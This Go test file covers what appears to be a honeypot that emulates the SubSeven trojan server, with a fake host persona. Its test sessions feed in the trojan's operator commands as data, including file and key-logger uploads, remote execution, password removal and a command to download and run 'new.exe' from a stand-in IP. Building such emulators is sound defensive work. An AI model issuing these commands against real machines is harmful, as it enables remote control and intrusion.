package subseven

import (
	"errors"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"
)

// fixedNow is the clock of the tests: Chainsaw's autumn.
var fixedNow = time.Date(2000, 10, 12, 14, 52, 33, 0, time.UTC)

func TestNextCommand(t *testing.T) {
	for _, tt := range []struct {
		in        string
		cmd, rest string
	}{
		{"PIN", "PIN", ""},
		{"PIN\n", "PIN", ""},
		{"PIN\r\nGMI", "PIN", "GMI"},
		{"RTFC:\\x.exe\nSFT0410", "RTFC:\\x.exe", "SFT0410"},
		{"\nPIN", "", "PIN"},
		{"PI\rN", "PI\rN", ""},
	} {
		cmd, rest := NextCommand([]byte(tt.in))
		if string(cmd) != tt.cmd || string(rest) != tt.rest {
			t.Errorf("NextCommand(%q) = %q, %q; want %q, %q", tt.in, cmd, rest, tt.cmd, tt.rest)
		}
	}
}

func TestParseCommand(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want Command
	}{
		{"PIN", Command{Code: "PIN"}},
		{"PWDsecret", Command{Code: "PWD", Arg: "secret"}},
		{"RTFChainsaw.exe", Command{Code: "RTF", Arg: "Chainsaw.exe"}},
		{"MW:12TitleZJXXText", Command{Code: "MW:", Arg: "12TitleZJXXText"}},
		{"PI", Command{Code: "PI"}},
		{"", Command{}},
	} {
		if got := ParseCommand([]byte(tt.in)); got != tt.want {
			t.Errorf("ParseCommand(%q) = %+v; want %+v", tt.in, got, tt.want)
		}
	}
}

func TestParseUploadHeader(t *testing.T) {
	for _, tt := range []struct {
		in   string
		size int64
		n    int
		err  error
	}{
		{"SFT046144", 6144, 9, nil},
		{"SFT046144MZ\x90", 6144, 9, nil},
		{"SFT010", 0, 6, nil},
		{"SFT18123456789012345678", 123456789012345678, 23, nil},
		{"", 0, 0, errNeedMore},
		{"S", 0, 0, errNeedMore},
		{"SFT0", 0, 0, errNeedMore},
		{"SFT04", 0, 0, errNeedMore},
		{"SFT0461", 0, 0, errNeedMore},
		{"X", 0, 0, errBadHeader},
		{"SFX", 0, 0, errBadHeader},
		{"SFTx4", 0, 0, errBadHeader},
		{"SFT00", 0, 0, errBadHeader},
		{"SFT19", 0, 0, errBadHeader},
		{"SFT0461a", 0, 0, errBadHeader},
		{"SFT04614a", 0, 0, errBadHeader},
		{"PIN", 0, 0, errBadHeader},
	} {
		size, n, err := ParseUploadHeader([]byte(tt.in))
		if size != tt.size || n != tt.n || !errors.Is(err, tt.err) || (tt.err == nil && err != nil) {
			t.Errorf("ParseUploadHeader(%q) = %d, %d, %v; want %d, %d, %v", tt.in, size, n, err, tt.size, tt.n, tt.err)
		}
	}
}

func TestStream(t *testing.T) {
	if got := Stream("RSH", []byte("<WINNT>\r\n")); got != "RSH019<WINNT>\r\n" {
		t.Errorf("Stream = %q", got)
	}
	if got := Stream("GPW", nil); got != "GPW010" {
		t.Errorf("empty Stream = %q", got)
	}
	if got := Ack(6144); got != "p:6144." {
		t.Errorf("Ack = %q", got)
	}
	if got := thousands(8587160064); got != "8,587,160,064" {
		t.Errorf("thousands = %q", got)
	}
	if got := thousands(999); got != "999" {
		t.Errorf("thousands(999) = %q", got)
	}
}

func testHost() *Host {
	return &Host{Version: "M.U.I.E. 2.1", ComputerName: "WEBSERVER", UserName: "Administrator",
		Owner: "Administrator", OSVersion: "Windows 2000", WindowsDir: `C:\WINNT`, SystemDir: `C:\WINNT\System32`,
		Resolution: "1024x768", BitsPerPixel: 16, DirectX: "8.1", CPU: "GenuineIntel", CPUMHz: 866.4,
		DiskSize: 8587160064, DiskFree: 3215106048, Drives: []string{`C:\ (non-removable)`},
		Windows: []string{"Untitled - Notepad"}, Processes: []Process{{Path: `C:\WINNT\Explorer.EXE`, Priority: "Normal"}},
		Dirs: map[string][]string{"C:": {"<WINNT>", "boot.ini"}, `C:\WINNT`: {"<..>", "notepad.exe"}}}
}

type step struct {
	cmd    string
	reply  string
	known  bool
	login  *Login
	upload *Upload
	url    string
	close  bool
}

func runSession(t *testing.T, s *Session, steps []step) {
	t.Helper()
	for i, st := range steps {
		r := s.Handle([]byte(st.cmd))
		if r.Reply != st.reply || r.Known != st.known || !reflect.DeepEqual(r.Login, st.login) ||
			!reflect.DeepEqual(r.Upload, st.upload) || r.URL != st.url || r.Close != st.close {
			t.Fatalf("step %d %q: got %+v (login %+v, upload %+v); want reply %q known %v login %+v upload %+v url %q close %v",
				i, st.cmd, r, r.Login, r.Upload, st.reply, st.known, st.login, st.upload, st.url, st.close)
		}
	}
}

func newSession(h *Host) *Session {
	return NewSession(h, func() time.Time { return fixedNow }, func() int { return 1 })
}

func TestSessionOpen(t *testing.T) {
	s := newSession(testHost())
	if got, want := s.Greeting(), "connected. time/date: 14:52.33 - October 12, 2000, Thursday, version: M.U.I.E. 2.1"; got != want {
		t.Errorf("greeting %q; want %q", got, want)
	}
	runSession(t, s, []step{
		{cmd: "PIN", known: true, reply: "PONG"},
		{cmd: "PWDanything", known: true, login: &Login{Password: "anything", Success: true}},
		{cmd: "RTFC:\\WINNT\\x.exe", known: true, reply: "TID", upload: &Upload{Kind: UploadFile, Path: `C:\WINNT\x.exe`}},
		{cmd: "RTE", known: true, reply: "TID", upload: &Upload{Kind: UploadKeyDLL}},
		{cmd: "UPS", known: true, reply: "TID", upload: &Upload{Kind: UploadServer}},
		{cmd: "FMXChainsaw.exe", known: true, reply: "can't find file: Chainsaw.exe"},
		{cmd: `FMXC:\WINNT\notepad.exe`, known: true, reply: "file has been executed."},
		{cmd: "FMX", known: true, reply: "can't find file: "},
		{cmd: "URLhttp://198.51.100.7/", known: true, reply: "web browser has been opened.", url: "http://198.51.100.7/"},
		{cmd: "UFUhttp://198.51.100.7/new.exe", known: true, url: "http://198.51.100.7/new.exe"},
		{cmd: "RTD", known: true, reply: "RTD02000101201452"},
		{cmd: "GDR", known: true, reply: "GDRC:\\ (non-removable)\r\n"},
		{cmd: "RAW", known: true, reply: "RAWUntitled - Notepad\r\n"},
		{cmd: "RSHC:\\", known: true, reply: "RSH0219<WINNT>\r\nboot.ini\r\n"},
		{cmd: "RSHc:\\winnt", known: true, reply: "RSH0219<..>\r\nnotepad.exe\r\n"},
		{cmd: "RSHD:\\", known: true, reply: "path [D:] not found."},
		{cmd: "RPL", known: true, reply: "RPL0245explorer.exe\r\nC:\\WINNT\\Explorer.EXE\r\nNormal\r\n"},
		{cmd: "GMI", known: true, reply: "GMIWEBSERVER\r\nAdministrator\r\nC:\\WINNT\r\nC:\\WINNT\\System32\r\nAdministrator\r\n\r\n" +
			"Windows 2000\r\n\r\n\r\n1024x768\r\n8.1\r\n16\r\nGenuineIntel\r\n866.4 MHz\r\n8,587,160,064 bytes\r\n3,215,106,048 bytes\r\n1\r\n"},
		{cmd: "SVT0", known: true, reply: "VRead000000000"},
		{cmd: "SVT150", known: true, reply: "VSet"},
		{cmd: "STA1", known: true, reply: "Start menu is now off!"},
		{cmd: "STA9", known: true},
		{cmd: "CSLON", known: true, reply: "CapsLock is now ON"},
		{cmd: "NPD_PZD", known: true, reply: "password removed"},
		{cmd: "NPDx", known: true, reply: "new password set."},
		{cmd: "DOSdir", known: true},
		{cmd: "XYZ", known: false},
		{cmd: "GET / HTTP/1.0", known: false},
		{cmd: "RMS", known: true, reply: "server removed. closing...", close: true},
	})
	s.Uploaded(&Upload{Kind: UploadFile, Path: "Chainsaw.exe"}, 6144)
	runSession(t, s, []step{
		{cmd: "FMXchainsaw.EXE", known: true, reply: "file has been executed."},
		{cmd: "FMSChainsaw.exe", known: true, reply: "SIZE6"},
		{cmd: "FMDChainsaw.exe", known: true, reply: "file: Chainsaw.exe has been deleted... :)"},
		{cmd: "FMXChainsaw.exe", known: true, reply: "can't find file: Chainsaw.exe"},
		{cmd: "CLS", known: true, close: true},
	})
}

// A file of the persona's has a size, the same every time.
func TestSessionFileSize(t *testing.T) {
	s := newSession(testHost())
	a := s.Handle([]byte(`FMSc:\winnt\NOTEPAD.EXE`)).Reply
	b := s.Handle([]byte(`FMSC:\WINNT\notepad.exe`)).Reply
	n, err := strconv.Atoi(strings.TrimPrefix(a, "SIZE"))
	if !strings.HasPrefix(a, "SIZE") || err != nil || n < 1 || a != b {
		t.Errorf("FMS answered %q then %q; want the same SIZE<kilobytes> twice", a, b)
	}
}

func TestSessionPassword(t *testing.T) {
	h := testHost()
	h.Password = "sub7"
	s := newSession(h)
	if got := s.Greeting(); got != "PWD" {
		t.Errorf("greeting %q; want PWD", got)
	}
	runSession(t, s, []step{
		{cmd: "PIN", known: true, reply: "error reading password..."},
		{cmd: "PWDsub7", known: true, reply: "connected. 14:52.33 - October 12, 2000, Thursday, version: M.U.I.E. 2.1",
			login: &Login{Password: "sub7", Success: true}},
		{cmd: "PIN", known: true, reply: "PONG"},
	})
	runSession(t, newSession(h), []step{
		{cmd: "PWDguess", known: true, reply: "POPUP incorrect password...", login: &Login{Password: "guess"}, close: true},
	})
	h.AcceptAny = true
	runSession(t, newSession(h), []step{
		{cmd: "PWDguess", known: true, reply: "connected. 14:52.33 - October 12, 2000, Thursday, version: M.U.I.E. 2.1",
			login: &Login{Password: "guess", Success: true}},
	})
}

func TestUploadDone(t *testing.T) {
	if r, c := UploadDone(&Upload{Kind: UploadFile}); r != "file successfully uploaded." || c {
		t.Errorf("file upload ends %q, close %v", r, c)
	}
	if r, c := UploadDone(&Upload{Kind: UploadServer}); r != "new server updated. restarting..." || !c {
		t.Errorf("server update ends %q, close %v", r, c)
	}
}
